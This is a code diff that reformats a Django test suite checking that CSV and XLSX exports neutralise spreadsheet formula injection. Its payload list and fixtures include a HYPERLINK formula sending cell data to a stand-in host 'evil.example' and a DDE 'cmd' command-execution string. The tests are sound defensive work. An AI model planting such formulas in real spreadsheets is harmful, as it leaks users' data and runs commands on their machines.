@@ -21,8 +21,16 @@ from serai.core.i18n import TranslatedText
 from serai.core.testing import body as body_of
 from serai.projects.tests.conftest import energy, make_project, roles, walk  # noqa: F401 (fixtures)
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
-            "=cmd|' /C calc'!A0", "\uff1d1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "=cmd|' /C calc'!A0",
+    "\uff1d1+1",
+]
 NUMBER = re.compile(r"-?\d+(\.\d+)?(E[+-]?\d+)?", re.I)  # a number written by the CSV writer
 
 
@@ -45,8 +53,11 @@ def assert_csv_inert(body: bytes, *expected: str) -> None:
 
 def assert_xlsx_inert(body: bytes, *expected: str) -> None:
     cells = _xlsx_cells(body)
-    live = [(c.coordinate, c.value, c.data_type) for c in cells
-            if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS))]
+    live = [
+        (c.coordinate, c.value, c.data_type)
+        for c in cells
+        if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS))
+    ]
     assert not live, f"formula cells in the XLSX: {live!r}"
     values = {c.value: c.data_type for c in cells}
     for text in expected:
@@ -99,8 +110,9 @@ def test_action_tracker_export(client, roles, reference):  # noqa: F811
     session = Meeting.objects.filter(body__kind="forum", status="held").first()
     titles = ["=1+1", "@SUM(A1)", "-2+3"]
     for title in titles:
-        operations.add_action(roles["secretariat"], session, TranslatedText({"en": title}, source="en"),
-                              owner=reference["states"]["UZ"])
+        operations.add_action(
+            roles["secretariat"], session, TranslatedText({"en": title}, source="en"), owner=reference["states"]["UZ"]
+        )
     client.force_login(roles["secretariat"])
     response = client.get("/en/actions/?format=xlsx")
     assert response.status_code == 200
@@ -109,7 +121,7 @@ def test_action_tracker_export(client, roles, reference):  # noqa: F811
 
 @pytest.mark.django_db
 def test_dashboard_csv(client, roles, make_project, energy):  # noqa: F811
-    energy.name = TranslatedText({"en": "=HYPERLINK(\"http://evil.example\")"}, source="en")
+    energy.name = TranslatedText({"en": '=HYPERLINK("http://evil.example")'}, source="en")
     energy.save(update_fields=["name"])
     make_project()
     client.force_login(roles["secretariat"])
@@ -126,7 +138,7 @@ def formula_store(settings, tmp_path, reference):
 
     write_year(tmp_path / "baci", 2020, WORLD)
     store = TradeStore(tmp_path / "store")
-    ingest.load(tmp_path / "baci", store, dataset="=HYPERLINK(\"x\")")
+    ingest.load(tmp_path / "baci", store, dataset='=HYPERLINK("x")')
     settings.SERAI_TRADE_DIR = store.root
     return store
 
@@ -141,8 +153,7 @@ def test_trade_opportunities_export(client, formula_store, fmt):
         assert_csv_inert(content)
     else:
         assert_xlsx_inert(content)
-        assert any(isinstance(c.value, str) and c.value.startswith("'=HYPERLINK")
-                   for c in _xlsx_cells(content))
+        assert any(isinstance(c.value, str) and c.value.startswith("'=HYPERLINK") for c in _xlsx_cells(content))
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
